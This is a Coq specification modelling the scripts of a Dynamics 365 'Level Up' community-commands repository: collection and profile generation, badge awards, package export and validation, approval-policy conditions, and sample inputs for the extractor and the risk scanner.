      (if isAbsolute then "/" else if trailingSeparator then "./" else ".")
    else
      (if isAbsolute then "/" else "") ++ path
      ++ (if trailingSeparator then "/" else "").

(** [path.join(dir, file)] *)
Definition pathJoin (dir file : string) : string :=
  let joined :=
    if isEmpty dir then file
    else if isEmpty file then dir
    else dir ++ "/" ++ file in
  if isEmpty joined then "." else normalize joined.

Definition optJson (o : option string) : option json := option_map JStr o.

(** The callback of [issueData.commands.map] in [generateCollectionFiles]. *)
Definition commandEntry (issueData : Parser.Collection) (timestamp : string)
    (command : json) (index : nat) : result CommandEntry :=
  commandId <- generateCommandId command index ;;
  cname <- getProp command "name" ;;
  cdescription <- getProp command "description" ;;
  ccategory <- getProp command "category" ;;
  ccode <- getProp command "code" ;;
  cicon <- getProp command "icon" ;;
  ctags <- getProp command "tags" ;;
  cauthor <- getProp command "author" ;;
  Ok {| cmd_id := commandId;
        cmd_name := cname;
        cmd_description := orValue cdescription (JStr "");
        cmd_category :=
          orValue ccategory (JStr (Parser.category (Parser.metadata issueData)));
        cmd_code := ccode;
        cmd_icon := orValue cicon (JStr "code");
        cmd_tags := orValue ctags (JArr []);
        cmd_author :=
          if truthyValue cauthor then cauthor
          else optJson (Parser.author (Parser.metadata issueData));
        cmd_version := "1.0.0";
        cmd_createdAt := timestamp |}.

(** [commands.map((command, index) => f(command, index))] for a callback
    that may throw. *)
Fixpoint mapIndexed {A : Type} (f : json -> nat -> result A) (index : nat)
    (commands : list json) : result (list A) :=
  match commands with
  | [] => Ok []
  | command :: rest =>
      x <- f command index ;;
      xs <- mapIndexed f (S index) rest ;;
      Ok (x :: xs)
  end.

(** [generateCommandFileContent(command, collectionMetadata, commandId)] *)
Definition generateCommandFileContent (command : json)
    (collectionMetadata : CollectionMetadata) (commandId : string) : result string :=
  cname <- getProp command "name" ;;
  cdescription <- getProp command "description" ;;
  ccategory <- getProp command "category" ;;
  cauthor <- getProp command "author" ;;
  cversion <- getProp command "version" ;;
  ccode <- getProp command "code" ;;
  shownName <- renderOpt cname ;;
  describe <- render (orValue cdescription (JStr "No description provided")) ;;
  shownCategory <- render (orValue ccategory (JStr (category collectionMetadata))) ;;
  shownAuthor <-
    (if truthyValue cauthor then renderOpt cauthor
     else Ok (renderString (author collectionMetadata))) ;;
  shownVersion <- render (orValue cversion (JStr "1.0.0")) ;;
  let header :=
    "// Command Name: " ++ shownName ++ nl
    ++ "// Description: " ++ describe ++ nl
    ++ "// Category: " ++ shownCategory ++ nl
    ++ "// Author: " ++ shownAuthor ++ nl
    ++ "// Collection: " ++ name collectionMetadata ++ nl
    ++ "// Collection ID: " ++ id collectionMetadata ++ nl
    ++ "// Command ID: " ++ commandId ++ nl
    ++ "// Version: " ++ shownVersion ++ nl
    ++ "// Source: " ++ issueUrl (source collectionMetadata) ++ nl
    ++ "// Auto-approved: " ++ (if autoApproved collectionMetadata then "true" else "false") ++ nl
    ++ "// Processed: " ++ processedAt collectionMetadata ++ nl
    ++ nl
    ++ "/**" ++ nl
    ++ " * " ++ describe ++ nl
    ++ " *" ++ nl
    ++ " * Part of collection: " ++ name collectionMetadata ++ nl
    ++ " *" ++ nl
    ++ " * Usage: Run this command from Level Up for Dynamics 365" ++ nl
    ++ " *" ++ nl
    ++ " * For more commands from this collection, visit:" ++ nl
    ++ " * https://rajyraman.github.io/level-up-community-commands/collections/"
    ++ repository (source collectionMetadata) ++ nl
    ++ " */" ++ nl
    ++ nl in
  shownCode <- render (orValue ccode (JStr "")) ;;
  Ok (header ++ shownCode).

(** The callback of [issueData.commands.forEach] that writes one file per
    command. *)
Definition commandFile (collectionMetadata : CollectionMetadata) (commandsDir : string)
    (command : json) (index : nat) : result CommandFile :=
  commandId <- generateCommandId command index ;;
  cname <- getProp command "name" ;;
  fileName <-
    (if truthyValue cname then
       match cname with
       | Some (JStr n) => Ok (sanitizeFileName n ++ ".js")
       | _ => Throw "name.toLowerCase is not a function"
       end
     else Ok (sanitizeFileName ("command-" ++ string_of_Z (Z.of_nat index + 1)) ++ ".js")) ;;
  commandContent <- generateCommandFileContent command collectionMetadata commandId ;;
  Ok {| file_id := commandId;
        file_name := cname;
        fileName := fileName;
        path := pathJoin commandsDir fileName;
        content := commandContent |}.

(** [generateLevelUpImport(collectionData)] *)
Definition generateLevelUpImport (collectionData : CollectionData) (now : string)
    : LevelUpImport :=
  let m := collectionMetadata collectionData in
  {| lu_version := "1.0.0";
     lu_exportedAt := now;
     lu_source := "level-up-community-commands";
     lu_collection := (name m, description m, author m, version m);
     lu_commands :=
       map (fun command =>
              {| lu_name := cmd_name command;
                 lu_description := cmd_description command;
                 lu_code := cmd_code command;
                 lu_icon := cmd_icon command |})
         (commands collectionData) |}.

(** [generateCollectionFiles(issueData, collectionsDir, commandsDir)] *)
Definition generateCollectionFiles (issueData : Parser.Collection)
    (collectionsDir commandsDir : string) (now : string) : result CollectionInfo :=
  let collectionId := generateCollectionId issueData in
  let timestamp := now in
  let metadata := Parser.metadata issueData in
  let collectionMetadata :=
    {| id := collectionId;
       name := Parser.name metadata;
       description := Parser.description metadata;
       category := Parser.category metadata;
       tags := Parser.tags metadata;
       author := Parser.author metadata;
       submittedBy := Parser.submittedBy metadata;
       submittedAt := Parser.submittedAt metadata;
       processedAt := timestamp;
       dynamicsVersion := Parser.dynamicsVersion metadata;
       commandCount := Z.of_nat (List.length (Parser.commands issueData));
       autoApproved := true;
       version := "1.0.0";
       source := {| issueNumber := Parser.info_number (Parser.issueInfo issueData);
                    issueUrl := Parser.info_url (Parser.issueInfo issueData);
                    repository := "level-up-community-commands" |};
       documentation := Parser.documentation issueData;
       stats := {| downloads := 0; rating := 0; votes := 0 |} |} in
  let collectionFileName := sanitizeFileName (Parser.name metadata) ++ ".json" in
  let collectionPath := pathJoin collectionsDir collectionFileName in
  entries <- mapIndexed (commandEntry issueData timestamp) 0 (Parser.commands issueData) ;;
  let collectionData :=
    {| collectionMetadata := collectionMetadata; commands := entries |} in
  commandFiles <-
    mapIndexed (commandFile collectionMetadata commandsDir) 0 (Parser.commands issueData) ;;
  let levelUpImportPath :=
    pathJoin collectionsDir (sanitizeFileName (Parser.name metadata) ++ "-levelup.json") in
  let levelUpData := generateLevelUpImport collectionData now in
  Ok {| collectionId := collectionId;
        collectionPath := collectionPath;
        levelUpImportPath := levelUpImportPath;
        commandFiles := commandFiles;
        totalCommands := Z.of_nat (List.length (Parser.commands issueData));
        collectionFileName := collectionFileName;
        collectionData := collectionData;
        levelUpData := levelUpData |}.

(** *** The author profile *)

Record CollectionRef := {
  ref_id : string;
  ref_name : string;
  ref_description : string;
  ref_category : string;
  ref_commandCount : Z;
  ref_submittedAt : string;
  ref_processedAt : string;
  ref_fileName : string;
  ref_tags : list string
}.

Record ProfileStats := {
  totalCollections : Z;
  profile_totalCommands : Z;
  totalDownloads : Z;
  avgRating : Z
}.

Record Badge := {
  badge_id : string;
  badge_name : string;
  badge_description : string;
  badge_icon : string;
  awardedAt : string
}.

Record Profile := {
  username : string;
  displayName : string;
  joinedAt : string;
  collections : list CollectionRef;
  profile_stats : ProfileStats;
  badges : list Badge;
  bio : string;
  website : string;
  social : json
}.

(** The file [profile.json] of one author: missing, present but rejected
    by [JSON.parse], or holding a profile. *)
Inductive ProfileFile :=
| Absent
| Unreadable
| Stored (profile : Profile).

Definition hasBadge (profile : Profile) (badgeId : string) : bool :=
  existsb (fun b => String.eqb (badge_id b) badgeId) (badges profile).

(** [awardBadges(profile)] *)
Definition awardBadges (profile : Profile) (now : string) : Profile :=
  let earned := [] in
  let earned :=
    if (1 <=? totalCollections (profile_stats profile))
       && negb (hasBadge profile "first-collection")
    then push earned
           {| badge_id := "first-collection";
              badge_name := "First Collection";
              badge_description := "Submitted your first command collection";
              badge_icon := "🎉";
              awardedAt := now |}
    else earned in
  let earned :=
    if (5 <=? totalCollections (profile_stats profile))
       && negb (hasBadge profile "prolific-contributor")
    then push earned
           {| badge_id := "prolific-contributor";
              badge_name := "Prolific Contributor";
              badge_description := "Submitted 5 or more collections";
              badge_icon := "🏆";
              awardedAt := now |}
    else earned in
  let earned :=
    if (20 <=? profile_totalCommands (profile_stats profile))
       && negb (hasBadge profile "command-master")
    then push earned
           {| badge_id := "command-master";
              badge_name := "Command Master";
              badge_description := "Contributed 20 or more commands";
              badge_icon := "⭐";
              awardedAt := now |}
    else earned in
  {| username := username profile;
     displayName := displayName profile;
     joinedAt := joinedAt profile;
     collections := collections profile;
     profile_stats := profile_stats profile;
     badges := (badges profile ++ earned)%list;
     bio := bio profile;
     website := website profile;
     social := social profile |}.

(** [profile.collections.findIndex(c => c.id === id)] followed by the
    replacement at that index, or the [push] when there is none. *)
Fixpoint replaceFirstRef (collectionRef : CollectionRef) (refs : list CollectionRef)
    : option (list CollectionRef) :=
  match refs with
  | [] => None
  | c :: rest =>
      if String.eqb (ref_id c) (ref_id collectionRef) then Some (collectionRef :: rest)
      else option_map (cons c) (replaceFirstRef collectionRef rest)
  end.

Definition upsertRef (collectionRef : CollectionRef) (refs : list CollectionRef)
    : list CollectionRef :=
  match replaceFirstRef collectionRef refs with
  | Some refs' => refs'
  | None => push refs collectionRef
  end.

(** [updateUserProfile(userDir, issueData, collectionInfo)]: from the
    profile file as found to the profile written back. *)
Definition updateUserProfile (file : ProfileFile) (issueData : Parser.Collection)
    (collectionInfo : CollectionInfo) (now : string) : Profile :=
  let profile :=
    {| username := Parser.contactInfo issueData;
       displayName :=
         match Parser.author (Parser.metadata issueData) with
         | Some a => orElse a (Parser.contactInfo issueData)
         | None => Parser.contactInfo issueData
         end;
       joinedAt := now;
       collections := [];
       profile_stats := {| totalCollections := 0; profile_totalCommands := 0;
                           totalDownloads := 0; avgRating := 0 |};
       badges := [];
       bio := "";
       website := "";
       social := JObj [] |} in
  let profile :=
    match file with
    | Stored existing => existing
    | Absent | Unreadable => profile
    end in
  let collectionRef :=
    {| ref_id := collectionId collectionInfo;
       ref_name := Parser.name (Parser.metadata issueData);
       ref_description := Parser.description (Parser.metadata issueData);
       ref_category := Parser.category (Parser.metadata issueData);
       ref_commandCount := totalCommands collectionInfo;
       ref_submittedAt := Parser.submittedAt (Parser.metadata issueData);
       ref_processedAt := now;
       ref_fileName := collectionFileName collectionInfo;
       ref_tags := Parser.tags (Parser.metadata issueData) |} in
  let collections := upsertRef collectionRef (collections profile) in
  let stats :=
    {| totalCollections := Z.of_nat (List.length collections);
       profile_totalCommands :=
         fold_left (fun sum c => sum + ref_commandCount c) collections 0;
       totalDownloads := totalDownloads (profile_stats profile);
       avgRating := avgRating (profile_stats profile) |} in
  awardBadges
    {| username := username profile;
       displayName := displayName profile;
       joinedAt := joinedAt profile;
       collections := collections;
       profile_stats := stats;
       badges := badges profile;
       bio := bio profile;
       website := website profile;
       social := social profile |}
    now.

(** *** [organizeCollection(issueDataPath, collectionsBaseDir)]

    The store holds the profile files by their path: what a run finds when
    it loads the profile at that path.  Two user names that [path.join]
    maps to one directory share one profile file.  The collection file, the
    import file and the command files of a run are named in its result with
    their paths; their text is not kept, and the store does not follow a
    collection file that lands on the path of a profile.  The issue data is
    the document already read from [issueDataPath].  The rebuilding of the global index,
    which reads the base directory and the profiles and writes [index.json]
    only, is left out. *)
Definition Store := string -> ProfileFile.

(** The path of the profile file in [updateUserProfile]. *)
Definition profilePath (userDir : string) : string := pathJoin userDir "profile.json".

Definition writeProfile (store : Store) (path : string) (profile : Profile) : Store :=
  fun p => if String.eqb p path then Stored profile else store p.

Record Organized := {
  org_username : string;
  userDir : string;
  org_collectionInfo : CollectionInfo
}.

Definition organizeCollection (store : Store) (issueData : Parser.Collection)
    (collectionsBaseDir : string) (now : string) : result (Store * Organized) :=
  let username := Parser.contactInfo issueData in
  if isEmpty username then Throw "No GitHub username found in contact info"
  else
    let userDir := pathJoin collectionsBaseDir username in
    let collectionsDir := pathJoin userDir "collections" in
    let commandsDir := pathJoin userDir "commands" in
    collectionInfo <- generateCollectionFiles issueData collectionsDir commandsDir now ;;
    let profile :=
      updateUserProfile (store (profilePath userDir)) issueData collectionInfo now in
    Ok (writeProfile store (profilePath userDir) profile,
        {| org_username := username;
           userDir := userDir;
           org_collectionInfo := collectionInfo |}).

(** One run of the script on the shared store: a run that throws leaves the
    profiles as they were. *)
Definition materialize (collectionsBaseDir : string) (store : Store)
    (run : Parser.Collection * string) : Store :=
  match organizeCollection store (fst run) collectionsBaseDir (snd run) with
  | Ok (store', _) => store'
  | Throw _ => store
  end.

End Organizer.

(** ** package-manager.js : class PackageManager

    Packages and commands are JSON documents.  A file written with
    [JSON.stringify] and read back with [JSON.parse] holds the document that
    was written. *)

Module Packages.
Import Js Json Crypto.

(** *** The operator [+] on property values *)

Inductive prim :=
| PUndefined
| PNull
| PBool (b : bool)
| PNum (n : Z)
| PNaN
| PStr (s : string).

(** ToPrimitive: an array or an object turns into its string, or throws
    where [render] does. *)
Definition toPrimitive (o : option json) : result prim :=
  match o with
  | None => Ok PUndefined
  | Some JNull => Ok PNull
  | Some (JBool b) => Ok (PBool b)
  | Some (JNum n) => Ok (PNum n)
  | Some (JStr s) => Ok (PStr s)
  | Some v => s <- render v ;; Ok (PStr s)
  end.

Definition primToString (p : prim) : string :=
  match p with
  | PUndefined => "undefined"
  | PNull => "null"
  | PBool true => "true"
  | PBool false => "false"
  | PNum n => string_of_Z n
  | PNaN => "NaN"
  | PStr s => s
  end.

Definition primToNumber (p : prim) : option Z :=
  match p with
  | PNull => Some 0
  | PBool true => Some 1
  | PBool false => Some 0
  | PNum n => Some n
  | _ => None
  end.

(** [a + b]: concatenation as soon as one side is a string, else the sum,
    which is NaN when a side is no number. *)
Definition jsAdd (a b : prim) : prim :=
  match a, b with
  | PStr _, _ | _, PStr _ => PStr (primToString a ++ primToString b)
  | _, _ =>
      match primToNumber a, primToNumber b with
      | Some x, Some y => PNum (x + y)
      | _, _ => PNaN
      end
  end.

(** *** The class *)

Record PackageManager := {
  packageVersion : string;
  supportedFormats : list string
}.

Definition constructor : PackageManager :=
  {| packageVersion := "1.0.0"; supportedFormats := ["levelup"; "json"; "zip"] |}.

(** [generateCommandId(command)]; [hash.update] takes a string only. *)
Definition generateCommandId (command : json) : result string :=
  cname <- getProp command "name" ;;
  ccode <- getProp command "code" ;;
  name <- toPrimitive cname ;;
  code <- toPrimitive ccode ;;
  cauthor <- getProp command "author" ;;
  author <- toPrimitive cauthor ;;
  match jsAdd (jsAdd name code) author with
  | PStr content => Ok (takeChars 8 (md5hex content))
  | _ => Throw "The data argument must be of type string"
  end.

(** [sanitizeCommand(command)] *)
Definition sanitizeCommand (now : string) (command : json) : result json :=
  commandId <- generateCommandId command ;;
  cname <- getProp command "name" ;;
  cdescription <- getProp command "description" ;;
  ccategory <- getProp command "category" ;;
  ccode <- getProp command "code" ;;
  cicon <- getProp command "icon" ;;
  ctags <- getProp command "tags" ;;
  cauthor <- getProp command "author" ;;
  cdynamicsVersion <- getProp command "dynamicsVersion" ;;
  cusage <- getProp command "usageInstructions" ;;
  cprerequisites <- getProp command "prerequisites" ;;
  climitations <- getProp command "limitations" ;;
  csubmittedAt <- getProp command "submittedAt" ;;
  cvalidated <- getProp command "validated" ;;
  cvalidationScore <- getProp command "validationScore" ;;
  Ok (JObj
        [ ("id", JStr commandId);
          ("name", orValue cname (JStr "Unnamed Command"));
          ("description", orValue cdescription (JStr ""));
          ("category", orValue ccategory (JStr "other"));
          ("code", orValue ccode (JStr ""));
          ("icon", orValue cicon (JStr "code"));
          ("tags", orValue ctags (JArr []));
          ("author", orValue cauthor (JStr "Unknown"));
          ("dynamicsVersion", orValue cdynamicsVersion (JStr "All versions"));
          ("documentation",
           JObj [ ("usageInstructions", orValue cusage (JStr ""));
                  ("prerequisites", orValue cprerequisites (JStr ""));
                  ("limitations", orValue climitations (JStr "")) ]);
          ("metadata",
           JObj [ ("submittedAt", orValue csubmittedAt (JStr now));
                  ("validated", orValue cvalidated (JBool false));
                  ("validationScore", orValue cvalidationScore (JNum 0)) ]) ]).

(** [generateChecksum(commands)] *)
Definition generateChecksum (commands : list json) : string :=
  let content := stringify (JArr commands) in
  sha256hex content.

(** [commands.map(cmd => f(cmd))] for a callback that may throw. *)
Fixpoint mapResult {A B : Type} (f : A -> result B) (l : list A) : result (list B) :=
  match l with
  | [] => Ok []
  | x :: rest =>
      y <- f x ;;
      ys <- mapResult f rest ;;
      Ok (y :: ys)
  end.

(** Object spread [{ ...base, ...extra }]: a key of [extra] already in
    [base] takes the new value in place, a new key goes to the end. *)
Fixpoint assign (k : string) (v : json) (kv : list (string * json))
    : list (string * json) :=
  match kv with
  | [] => [(k, v)]
  | (k', v') :: rest =>
      if String.eqb k k' then (k', v) :: rest else (k', v') :: assign k v rest
  end.

Definition spread (base extra : list (string * json)) : list (string * json) :=
  fold_left (fun acc p => assign (fst p) (snd p) acc) extra base.

Definition ownProperties (v : json) : list (string * json) :=
  match v with JObj kv => kv | _ => [] end.

(** [createPackage(commands, packageInfo)] *)
Definition createPackage (this : PackageManager) (commands : list json)
    (packageInfo : json) (now : string) : result json :=
  iname <- getProp packageInfo "name" ;;
  idescription <- getProp packageInfo "description" ;;
  iauthor <- getProp packageInfo "author" ;;
  icategory <- getProp packageInfo "category" ;;
  itags <- getProp packageInfo "tags" ;;
  let info :=
    spread
      [ ("name", orValue iname (JStr "Community Command Package"));
        ("description", orValue idescription (JStr ""));
        ("author", orValue iauthor (JStr "Community"));
        ("category", orValue icategory (JStr "mixed"));
        ("tags", orValue itags (JArr []));
        ("createdAt", JStr now);
        ("commandCount", JNum (Z.of_nat (List.length commands))) ]
      (ownProperties packageInfo) in
  sanitized <- mapResult (sanitizeCommand now) commands ;;
  Ok (JObj [ ("version", JStr (packageVersion this));
             ("packageInfo", JObj info);
             ("commands", JArr sanitized);
             ("checksum", JStr (generateChecksum commands)) ]).

(** A property of an object literal: left out by [JSON.stringify] when its
    value is [undefined]. *)
Definition field (k : string) (o : option json) : list (string * json) :=
  match o with Some v => [(k, v)] | None => [] end.

(** [formatForLevelUp(pkg)]: the document it prints; [Date.now()] is
    [nowMs]. *)
Definition formatForLevelUp (pkg : json) (nowMs : Z) : result json :=
  pversion <- getProp pkg "version" ;;
  pinfo <- getProp pkg "packageInfo" ;;
  pcommands <- getProp pkg "commands" ;;
  commands <-
    match pcommands with
    | Some (JArr l) =>
        mapResult
          (fun cmd =>
             cname <- getProp cmd "name" ;;
             cdescription <- getProp cmd "description" ;;
             ccode <- getProp cmd "code" ;;
             cicon <- getProp cmd "icon" ;;
             ccategory <- getProp cmd "category" ;;
             ctags <- getProp cmd "tags" ;;
             cauthor <- getProp cmd "author" ;;
             cdynamicsVersion <- getProp cmd "dynamicsVersion" ;;
             Ok (JObj (field "name" cname ++ field "description" cdescription
                       ++ field "code" ccode ++ field "icon" cicon
                       ++ field "category" ccategory ++ field "tags" ctags
                       ++ field "author" cauthor
                       ++ field "dynamicsVersion" cdynamicsVersion)%list))
          l
    | _ => Throw "pkg.commands.map is not a function"
    end ;;
  pchecksum <- getProp pkg "checksum" ;;
  Ok (JObj (field "version" pversion ++ [("exportedAt", JNum nowMs)]
            ++ field "packageInfo" pinfo ++ [("commands", JArr commands)]
            ++ field "checksum" pchecksum)%list).

(** *** Files *)

Inductive File :=
| Missing
| Garbage
| Document (v : json).

Definition Files := string -> File.

Definition writeFile (files : Files) (path : string) (v : json) : Files :=
  fun p => if String.eqb p path then Document v else files p.

(** [exportPackage(pkg, filePath, format)] *)
Definition exportPackage (files : Files) (pkg : json) (filePath format : string)
    (nowMs : Z) : result (string * Files) :=
  let withJson :=
    if endsWith filePath ".json" then filePath else filePath ++ ".json" in
  let lowered := toLowerCase format in
  if String.eqb lowered "levelup" then
    content <- formatForLevelUp pkg nowMs ;;
    Ok (withJson, writeFile files withJson content)
  else if String.eqb lowered "json" then
    Ok (withJson, writeFile files withJson pkg)
  else Throw ("Unsupported export format: " ++ format).

(** [validatePackage(pkg)] *)
Fixpoint validateCommands (index : nat) (commands : list json) : result unit :=
  match commands with
  | [] => Ok tt
  | cmd :: rest =>
      cname <- getProp cmd "name" ;;
      if negb (truthyValue cname) then
        Throw ("Command " ++ string_of_Z (Z.of_nat index + 1) ++ " missing name")
      else
        ccode <- getProp cmd "code" ;;
        if negb (truthyValue ccode) then
          Throw ("Command " ++ string_of_Z (Z.of_nat index + 1) ++ " missing code")
        else validateCommands (S index) rest
  end.

Definition validatePackage (pkg : json) : result unit :=
  pversion <- getProp pkg "version" ;;
  if negb (truthyValue pversion) then Throw "Package missing version"
  else
    pcommands <- getProp pkg "commands" ;;
    if negb (truthyValue pcommands) || negb (isArray pcommands) then
      Throw "Package missing commands array"
    else if (List.length (elements pcommands) =? 0)%nat then
      Throw "Package contains no commands"
    else
      _ <- validateCommands 0 (elements pcommands) ;;
      pchecksum <- getProp pkg "checksum" ;;
      if truthyValue pchecksum then
        let calculatedChecksum := generateChecksum (elements pcommands) in
        match pchecksum with
        | Some (JStr stored) =>
            if String.eqb calculatedChecksum stored then Ok tt
            else Throw "Package checksum mismatch - data may be corrupted"
        | _ => Throw "Package checksum mismatch - data may be corrupted"
        end
      else Ok tt.

(** [importPackage(filePath)] *)
Definition importPackage (files : Files) (filePath : string) : result json :=
  match files filePath with
  | Missing => Throw ("Package file not found: " ++ filePath)
  | Garbage => Throw "Invalid package file: Unexpected token in JSON"
  | Document pkg =>
      try_catch
        (_ <- validatePackage pkg ;; Ok pkg)
        (fun error => Throw ("Invalid package file: " ++ error))
  end.

End Packages.

(** ** The conditions of the approval decision

    The six conditions that [determineApprovalStatus] tests, in the order
    of its array, as propositions over the documents the calculator reads,
    and the two conditions of an automatic approval.  The calculator takes
    the count of security issues of the CodeQL report, whatever their
    severity, and the issues of severity CRITICAL of the AI report, for the
    findings that block; it takes the count of error-level issues of the
    CodeQL report and the HIGH or CRITICAL issues of the AI report for the
    findings that stand against an automatic approval. *)

Module Policy.
Import Js Approval.

Definition validationHasError (d : option IssueData) : Prop :=
  exists v es e, d = Some v /\ validation v ?. errors = Some es /\ In e es.

(** The CodeQL report counts a security issue, of any severity. *)
Definition codeqlSecurityIssue (sec : option SecurityReport) : Prop :=
  exists s m n, sec = Some s /\ sec_summary s = Some m /\
                securityIssues m = Some n /\ (0 < n)%Q.

(** The AI report lists an issue of severity CRITICAL. *)
Definition aiCriticalIssue (ai : option AISafetyReport) : Prop :=
  exists a l i, ai = Some a /\ issues a = Some l /\ In i l /\
                severity i = "CRITICAL".

Definition reportsBlockingFinding (sec : option SecurityReport)
    (ai : option AISafetyReport) : Prop :=
  codeqlSecurityIssue sec \/ aiCriticalIssue ai.

Definition codeqlRiskCritical (sec : option SecurityReport) : Prop :=
  exists s, sec = Some s /\ sec_riskLevel s = Some "CRITICAL".

Definition aiRiskCritical (ai : option AISafetyReport) : Prop :=
  exists a, ai = Some a /\ ai_riskLevel a = Some "CRITICAL".

Definition riskLevelCritical (sec : option SecurityReport)
    (ai : option AISafetyReport) : Prop :=
  codeqlRiskCritical sec \/ aiRiskCritical ai.

Definition blocked (overall : Z) (d : option IssueData)
    (sec : option SecurityReport) (ai : option AISafetyReport) : Prop :=
  validationHasError d \/ reportsBlockingFinding sec ai
  \/ riskLevelCritical sec ai \/ overall < 30.

(** The six conditions with their reasons, in the declared order. *)
Definition blockingPredicates (overall : Z) (d : option IssueData)
    (sec : option SecurityReport) (ai : option AISafetyReport)
    : list (Prop * string) :=
  [ (validationHasError d, "Validation errors detected");
    (codeqlSecurityIssue sec, "Security vulnerabilities detected by CodeQL");
    (aiCriticalIssue ai, "Critical security issues detected by AI analysis");
    (codeqlRiskCritical sec, "Critical security risk level (CodeQL)");
    (aiRiskCritical ai, "Critical AI safety risk level");
    (overall < 30,
     "Overall score (" ++ string_of_Z overall ++ ") below rejection threshold (30)") ].

(** The report [r] is [report] rejected for one [reason]: nothing else is
    recorded. *)
Definition rejectedWith (report r : Report) (reason : string) : Prop :=
  recommendation r = REJECT /\ autoApprove r = false /\
  details_issues r = (details_issues report ++ [reason])%list /\
  details_recommendations r = details_recommendations report /\
  overallScore r = overallScore report.

(** At least one analyzer clears its own confidence threshold. *)
Definition clearsConfidence (sec : option SecurityReport)
    (ai : option AISafetyReport) : Prop :=
  (exists s q, sec = Some s /\ securityScore s = Some q /\ (80 <= q)%Q)
  \/ (exists a q, ai = Some a /\ safetyScore a = Some q /\ (75 <= q)%Q /\
                  ai_autoApprove a = Some true).

(** The CodeQL report counts no error-level issue and the AI report lists
    no HIGH or CRITICAL issue. *)
Definition noHighOrCritical (sec : option SecurityReport)
    (ai : option AISafetyReport) : Prop :=
  (forall s m n, sec = Some s -> sec_summary s = Some m ->
                 errorCount m = Some n -> ~ (0 < n)%Q)
  /\ (forall a l i, ai = Some a -> issues a = Some l -> In i l ->
                    severity i <> "CRITICAL" /\ severity i <> "HIGH").

End Policy.

(** ** Vocabulary and sample inputs of the evidence extractor *)

Module ExtractorSpec.
Import Js Json Parser.

(** The text of the commands field that [extractCommands] settles on. *)
Definition commandsField (body : string) : string :=
  firstField body
    ["Commands JSON Export"; "commands-json"; "Commands JSON"; "JSON Export"] "".

Definition missingCommandsError : string :=
  "Commands JSON is required and must contain at least one command".

(** The commands of a parsed payload: those of an object of shape
    [{commands: [...]}] or of a bare array; none for any other value and
    for a text that does not parse. *)
Definition acceptedCommands (parsed : option json) : list json :=
  match parsed with
  | Some (JArr l) => l
  | Some (JObj kv) =>
      match lookup "commands" kv with
      | Some (JArr l) => l
      | _ => []
      end
  | _ => []
  end.

(** The opening of a code fence before [rest]: the marker with or without
    the language, or no marker at all. *)
Definition fenceOpening (opening rest : string) : Prop :=
  opening = "```json"
  \/ (opening = "```" /\ startsWith rest "json" = false)
  \/ (opening = "" /\ startsWith rest "```" = false).

(** The closing of a code fence after [inner]: the marker, or none. *)
Definition fenceClosing (closing inner : string) : Prop :=
  closing = "```" \/ (closing = "" /\ endsWith inner "```" = false).

(** A stand-in for [JSON.parse] that knows three texts. *)
Definition sampleCommand (n c : string) : json :=
  JObj [("name", JStr n); ("code", JStr c)].

Definition sampleParse (text : string) : option json :=
  if String.eqb text "[3 commands]" then
    Some (JArr [ sampleCommand "Open form" "Xrm.Navigation.openForm({});";
                 sampleCommand "Refresh" "Xrm.Page.data.refresh();";
                 sampleCommand "Alert" "Xrm.Navigation.openAlertDialog({});" ])
  else if String.eqb text "{1 command}" then
    Some (JObj [("commands", JArr [sampleCommand "Refresh" "Xrm.Page.data.refresh();"])])
  else if String.eqb text "null" then Some JNull
  else None.

Definition sampleBody (payload : string) : string :=
  "### Collection Name" ++ nl ++ nl ++ "Form tools" ++ nl ++ nl
  ++ "### Collection Description" ++ nl ++ nl ++ "Helpers for forms" ++ nl ++ nl
  ++ "### Commands JSON Export" ++ nl ++ nl ++ payload ++ nl ++ nl
  ++ "### GitHub Username (Required)" ++ nl ++ nl ++ "@Octocat" ++ nl ++ nl
  ++ "### Safety & Quality Checklist" ++ nl ++ nl ++ "- [x] I tested the commands" ++ nl.

(** A payload inside a code fence, and a body of the issue form as the
    earlier revision reads it. *)
Definition fencedPayload : string := "```json" ++ nl ++ "[3 commands]" ++ nl ++ "```".

Definition regexBody : string := "### commands-json" ++ nl ++ nl ++ fencedPayload.

(** A stand-in for the regular expressions of the earlier [extractField]:
    what they answer on [regexBody]. *)
Definition sampleExtractField (body fieldId : string) : string :=
  if String.eqb body regexBody && String.eqb fieldId "commands-json"
  then fencedPayload else "".

Definition sampleIssue (payload : string) : GitHubIssue := {|
  body := Some (sampleBody payload);
  title := Some "[COLLECTION] Form tools";
  number := 42;
  html_url := "https://github.com/rajyraman/level-up-community-commands/issues/42";
  created_at := "2025-01-01T00:00:00Z";
  user_login := Some "octocat" |}.

End ExtractorSpec.

(** ** Vocabulary and sample inputs of the risk scanner *)

Module ScannerSpec.
Import Js Scanner.

(** The number of CRITICAL findings over all command reports. *)
Definition criticalFindings (reports : list CommandReport) : Z :=
  fold_right (fun c acc => Z.of_nat (countSeverity "CRITICAL" (c_issues c)) + acc)
    0 reports.

(** No finding of any command is CRITICAL. *)
Definition zeroCritical (reports : list CommandReport) : Prop :=
  forall c i, In c reports -> In i (c_issues c) -> severity i <> "CRITICAL".

(** What a report of the rule-based fallback looks like: the command is
    auto-approvable exactly when its own score is at least 75 and it has
    no CRITICAL finding. *)
Definition fallbackShape (c : CommandReport) : Prop :=
  c_autoApprove c
  = Qle_bool 75 (c_safetyScore c) && (countSeverity "CRITICAL" (c_issues c) =? 0)%nat.

(** A stand-in for the regular-expression engine, right on the two sample
    commands below. *)
Definition sampleMatches (p : Pattern) (code : string) : list string :=
  match p with
  | DocumentWrite => if includes code "document.write" then ["document.write"] else []
  | InnerHtmlAssign => if includes code "innerHTML =" then ["innerHTML ="] else []
  | _ => []
  end.

Definition noInference (token : string) (command : Command) (code : string)
    : result CommandReport :=
  Throw "API request failed: getaddrinfo ENOTFOUND models.inference.ai.azure.com".

Definition sampleCommands : list Command :=
  [ {| name := Some "Refresh"; description := None;
       code := Some "Xrm.Page.data.refresh();" |};
    {| name := Some "Banner"; description := None;
       code := Some "document.write(banner); panel.innerHTML = banner;" |} ].

End ScannerSpec.

(** ** Vocabulary and sample inputs of the materializer *)

Module MaterializerSpec.
Import Js Json Parser Organizer.

(** Two commands carry the same name and the same code prefix. *)
Definition sameNameAndCodePrefix (c c' : json) : Prop :=
  getProp c "name" = getProp c' "name" /\ commandCodePart c = commandCodePart c'.

(** Two issue documents agree on collection name, submitter and issue
    number. *)
Definition sameIdentity (d d' : Collection) : Prop :=
  Parser.name (metadata d) = Parser.name (metadata d') /\
  Parser.submittedBy (metadata d) = Parser.submittedBy (metadata d') /\
  info_number (issueInfo d) = info_number (issueInfo d').

